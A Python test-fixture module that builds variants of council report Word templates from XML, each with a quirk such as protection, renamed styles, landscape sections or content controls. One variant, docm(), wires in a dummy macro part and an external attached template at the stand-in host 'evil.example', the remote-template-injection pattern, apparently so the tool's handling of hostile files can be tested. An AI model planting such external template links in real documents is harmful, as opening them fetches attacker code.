"""Council templates as they come, each with what makes it awkward, made from plain XML."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

from safer_desktop.assets import resource

PARTS = {
    "[Content_Types].xml": "content-types.xml",
    "_rels/.rels": "package-rels.xml",
    "word/document.xml": "document.xml",
    "word/_rels/document.xml.rels": "document-rels.xml",
    "word/styles.xml": "styles.xml",
    "word/settings.xml": "settings.xml",
    "word/numbering.xml": "numbering.xml",
}
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_HEADER = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:hdr {W}><w:p><w:pPr><w:pStyle w:val="Header"/></w:pPr><w:r><w:t>Midshire County Council</w:t>
</w:r></w:p></w:hdr>"""


def footer(words: str, width: int) -> str:
    """A footer with words at the left and page numbers at the right."""

    def field(code: str) -> str:
        return (
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
            f'{code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )

    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:ftr {W}><w:p><w:pPr>'
        f'<w:pStyle w:val="Footer"/><w:tabs><w:tab w:val="right" w:pos="{width}"/></w:tabs></w:pPr>'
        f"<w:r><w:t>{words}</w:t></w:r><w:r><w:tab/></w:r>"
        f'<w:r><w:t xml:space="preserve">Page </w:t></w:r>{field("PAGE")}'
        f'<w:r><w:t xml:space="preserve"> of </w:t></w:r>{field("NUMPAGES")}</w:p></w:ftr>'
    )


def section(references: str = "", *, landscape: bool = False, title_page: bool = False) -> str:
    """Section properties of A4."""
    size = (
        'w:w="16838" w:h="11906" w:orient="landscape"' if landscape else 'w:w="11906" w:h="16838"'
    )
    return (
        f"<w:sectPr>{references}<w:pgSz {size}/>"
        '<w:pgMar w:top="1440" w:right="1440" w:bottom="1440" w:left="1440" w:header="708" '
        f'w:footer="708" w:gutter="0"/>{"<w:titlePg/>" if title_page else ""}</w:sectPr>'
    )


def text(words: str, style: str = "", more: str = "") -> str:
    """A paragraph."""
    named = f'<w:pStyle w:val="{style}"/>' if style else ""
    return f"<w:p><w:pPr>{named}{more}</w:pPr><w:r><w:t>{words}</w:t></w:r></w:p>"


def control(tag: str, prompt: str, *, more: str = "", block: bool = True) -> str:
    """A content control with a prompt in it."""
    look = "<w:r><w:rPr><w:b/></w:rPr>" if not block else "<w:r>"
    inside = f"{look}<w:t>{prompt}</w:t></w:r>"
    held = f"<w:p>{inside}</w:p>" if block else inside
    return (
        f'<w:sdt><w:sdtPr><w:tag w:val="{tag}"/>{more}<w:showingPlcHdr/></w:sdtPr>'
        f"<w:sdtContent>{held}</w:sdtContent></w:sdt>"
    )


REFERENCES = (
    f'<w:headerReference xmlns:r="{RELATIONS}" w:type="default" r:id="rIdH"/>'
    f'<w:footerReference xmlns:r="{RELATIONS}" w:type="default" r:id="rIdF"/>'
)


class Made:
    """A Word file under construction: its parts as text, by name."""

    def __init__(self, body: str, *, dressed: bool = True) -> None:
        folder = resource("report", "paper")
        self.parts: dict[str, bytes] = {
            name: (folder / file).read_bytes() for name, file in PARTS.items()
        }
        self.parts["word/document.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {W}>'
            f"<w:body>{body}</w:body></w:document>"
        ).encode()
        if dressed:
            self.part("word/header1.xml", _HEADER, "header", "rIdH")
            self.part("word/footer1.xml", footer("Midshire", 9026), "footer", "rIdF")

    def part(self, name: str, content: str | bytes, kind: str, relation: str) -> None:
        """Add a part and what leads to it."""
        self.parts[name] = content.encode() if isinstance(content, str) else content
        target = name.removeprefix("word/")
        self.relate(relation, f"{RELATIONS}/{kind}", target)
        if name.endswith(".xml"):
            wordml = "application/vnd.openxmlformats-officedocument.wordprocessingml"
            self.change(
                "[Content_Types].xml",
                "</Types>",
                f'<Override PartName="/{name}" ContentType="{wordml}.{kind}+xml"/></Types>',
            )

    def relate(self, relation: str, kind: str, target: str, mode: str = "") -> None:
        """Add a relation of the document."""
        self.change(
            "word/_rels/document.xml.rels",
            "</Relationships>",
            f'<Relationship Id="{relation}" Type="{kind}" Target="{target}"{mode}/>'
            "</Relationships>",
        )

    def change(self, part: str, old: str, new: str) -> None:
        """Put new words in place of old ones, which must be there."""
        content = self.parts[part].decode()
        assert old in content, f"{old} is not in {part}"
        self.parts[part] = content.replace(old, new).encode()

    def main_type(self, kind: str) -> None:
        """Make it another kind of Word file."""
        self.parts["[Content_Types].xml"] = re.sub(
            rb'(PartName="/word/document.xml" ContentType=")[^"]*',
            rb"\1" + kind.encode(),
            self.parts["[Content_Types].xml"],
        )

    def drop(self, name: str) -> None:
        """Take a part away with all that names it."""
        del self.parts[name]
        short = name.removeprefix("word/")
        for part in ("[Content_Types].xml", "word/_rels/document.xml.rels"):
            self.parts[part] = re.sub(
                rf'<(Override|Relationship) [^>]*"/?(word/)?{re.escape(short)}"[^>]*/>'.encode(),
                b"",
                self.parts[part],
            )

    def packed(self) -> bytes:
        """The file."""
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in self.parts.items():
                archive.writestr(name, content)
        return made.getvalue()


MARK = text("{{report_body}}")


def own() -> Made:
    """Made from the program's own paper: the same styles and numbering."""
    return Made(text("Confidential until published", "Note") + MARK + section(REFERENCES))


def dotx() -> Made:
    """A template file in an old mode, protected, in American English."""
    made = Made(MARK + section(REFERENCES))
    made.main_type(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    )
    made.change("word/settings.xml", 'w:val="15"', 'w:val="14"')
    made.change(
        "word/settings.xml", "<w:defaultTab",
        '<w:documentProtection w:edit="forms" w:enforcement="1"/><w:defaultTab',
    )  # fmt: skip
    made.change("word/styles.xml", 'w:lang w:val="en-GB"', 'w:lang w:val="en-US"')
    return made


def docm() -> Made:
    """A document with macros and links to outside."""
    made = Made(
        f'<w:p><w:hyperlink xmlns:r="{RELATIONS}" r:id="rIdX"><w:r><w:t>Intranet</w:t></w:r>'
        f"</w:hyperlink></w:p>{MARK}{section(REFERENCES)}"
    )
    made.main_type("application/vnd.ms-word.document.macroEnabled.main+xml")
    made.parts["word/vbaProject.bin"] = b"\x00macro"
    made.relate(
        "rIdV", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )  # fmt: skip
    made.relate("rIdX", f"{RELATIONS}/hyperlink", "file://server/share", ' TargetMode="External"')
    made.change(
        "[Content_Types].xml", "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )  # fmt: skip
    made.parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        f'Id="rId1" Type="{RELATIONS}/attachedTemplate" Target="https://evil.example/x.dotm" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    made.change(
        "word/settings.xml", "<w:defaultTab",
        f'<w:attachedTemplate xmlns:r="{RELATIONS}" r:id="rId1"/><w:defaultTab',
    )  # fmt: skip
    return made


def bare() -> Made:
    """Without numbering, settings, headers; one plain style and no size of page."""
    made = Made(MARK, dressed=False)
    made.drop("word/numbering.xml")
    made.drop("word/settings.xml")
    made.parts["word/styles.xml"] = (
        f'<w:styles {W}><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Georgia" '
        'w:hAnsi="Georgia"/><w:sz w:val="24"/><w:lang w:val="en-GB"/></w:rPr></w:rPrDefault>'
        '</w:docDefaults><w:style w:type="paragraph" w:default="1" w:styleId="Standard">'
        '<w:name w:val="Normal"/></w:style></w:styles>'
    ).encode()
    return made


def lying() -> Made:
    """A cover, the place of the report, a lying section with its own footer, a last page."""
    lie = REFERENCES.replace("rIdF", "rIdL")
    holder = f"<w:p><w:pPr>{section(REFERENCES, title_page=True)}</w:pPr></w:p>"
    lies = f"<w:p><w:pPr>{section(lie, landscape=True)}</w:pPr></w:p>"
    made = Made(
        text("Midshire Board", "Subtitle") + MARK + holder + text("Plans lie on their side.")
        + lies + text("Back page: how to get this paper in large print.") + section(REFERENCES)
    )  # fmt: skip
    made.part("word/footer2.xml", footer("Midshire, on its side", 13958), "footer", "rIdL")
    return made


def unusual() -> Made:
    """A council's own names for styles; its numbering is in a style, its headings have no level."""
    made = Made(MARK + section(REFERENCES))
    styles = made.parts["word/styles.xml"].decode()
    for old, new, name in (
        ("Heading1", "MccH1", "MCC Heading 1"),
        ("Heading2", "MccH2", "MCC Heading 2"),
        ("Heading3", "MccH3", "MCC Heading 3"),
        ("NumberedParagraph", "MccNum", "MCC Numbered Para"),
        ("Title", "MccTitle", "MCC Report Title"),
        ("Caption", "MccCap", "MCC Table Caption"),
        ("Note", "MccNote", "MCC Source"),
    ):
        styles = styles.replace(f'"{old}"', f'"{new}"')
        styles = re.sub(
            rf'(w:styleId="{new}"[^>]*>\s*<w:name w:val=")[^"]*', rf"\g<1>{name}", styles
        )
    styles = re.sub(r'<w:outlineLvl w:val="\d"/>', "", styles)
    for gone in ("LetteredParagraph", "BoardTable", "TableText", "TableNumber", "TableHeader"):
        styles = re.sub(
            rf'<w:style [^>]*w:styleId="{gone}".*?</w:style>', "", styles, flags=re.DOTALL
        )
    styles = re.sub(
        r'<w:style [^>]*w:styleId="TableHeaderNumber".*?</w:style>', "", styles, flags=re.DOTALL
    )
    made.parts["word/styles.xml"] = styles.encode()
    made.parts["word/numbering.xml"] = re.sub(
        rb'<w:pStyle w:val="NumberedParagraph"/>', b'<w:pStyle w:val="MccNum"/>',
        re.sub(rb'\s*<w:pStyle w:val="LetteredParagraph"/>', b"", made.parts["word/numbering.xml"]),
    )  # fmt: skip
    return made


def controls() -> Made:
    """A cover of content controls, one of them a date, one bound to data, and a marked header."""
    bound = '<w:dataBinding w:xpath="/a" w:storeItemID="{00000000-0000-0000-0000-000000000001}"/>'
    made = Made(
        control("report_title", "Click for the title")
        + "<w:p><w:r><w:t xml:space=\"preserve\">Meeting: </w:t></w:r>"
        + control("meeting_date", "Choose a day", block=False,
                  more='<w:date w:fullDate="2001-01-01T00:00:00Z"/>')
        + "</w:p>"
        + control("board", "Which board", more=bound)
        + text("Item {{agenda_item}}, contact {{con") .replace("</w:t></w:r></w:p>", "</w:t></w:r>"
          "<w:r><w:rPr><w:i/></w:rPr><w:t>tact}}.</w:t></w:r></w:p>")
        + control("report_body", "The report goes here")
        + text("Published by the council.") + section(REFERENCES)
    )  # fmt: skip
    made.change("word/header1.xml", "Midshire County Council", "{{council}}, {{edition}}")
    return made


VARIANTS: dict[str, Callable[[], Made]] = {
    "own": own,
    "dotx": dotx,
    "docm": docm,
    "bare": bare,
    "lying": lying,
    "unusual": unusual,
    "controls": controls,
}
